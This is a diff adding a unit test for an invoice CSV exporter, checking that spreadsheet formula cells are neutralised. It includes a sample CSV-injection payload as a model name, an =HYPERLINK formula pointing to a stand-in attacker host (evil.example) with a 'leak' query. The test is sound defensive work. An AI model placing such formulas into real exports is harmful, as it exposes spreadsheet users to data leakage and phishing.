@@ -1,0 +1,51 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { invoiceCsv } from "./invoice-export.js";
+import type { Invoice, InvoiceLine } from "./invoices.js";
+
+const invoice: Invoice = {
+  id: "inv_2026_11_0001",
+  accountId: "acct_1",
+  month: "2026-11",
+  status: "issued",
+  currency: "EUR",
+  taxRate: "0.19",
+  costPicoEur: 0n,
+  subtotalCents: 1250n,
+  taxCents: 238n,
+  totalCents: 1488n,
+  generatedAt: new Date("2026-12-01T00:00:00Z"),
+  generatedBy: "test",
+  issuedAt: new Date("2026-12-01T00:00:00Z"),
+  issuedBy: "test",
+  dueAt: new Date("2026-12-15T00:00:00Z"),
+  paidAt: null,
+  paidBy: null,
+  disputedAt: null,
+  disputedBy: null,
+  disputeReason: null,
+};
+
+const line = (model: string): InvoiceLine => ({
+  model,
+  requests: 3n,
+  promptTokens: 10n,
+  cachedTokens: 0n,
+  completionTokens: 5n,
+  costPicoEur: 0n,
+  amountCents: 625n,
+});
+
+test("an invoice CSV neutralises formula cells (usage recorded before model names were checked)", () => {
+  const csv = invoiceCsv(invoice, [
+    line('=HYPERLINK("https://evil.example/?leak","Pay here")'),
+    line("@SUM(A1:A9)"),
+    line("llama-70b"),
+  ]);
+  const rows = csv.trimEnd().split("\n");
+  assert.ok(rows[1]?.includes(`,"'=HYPERLINK(""https://evil.example/?leak"",""Pay here"")",`), rows[1]);
+  assert.ok(rows[2]?.includes(`,"'@SUM(A1:A9)",`), rows[2]);
+  assert.ok(rows[3]?.includes(",usage,llama-70b,3,10,0,5,,6.25"), rows[3]);
+  // No cell anywhere starts with a formula character unless it is a quoted, quote-prefixed one.
+  for (const row of rows) for (const cell of row.split(",")) assert.doesNotMatch(cell, /^[=+@\t\r]/);
+});
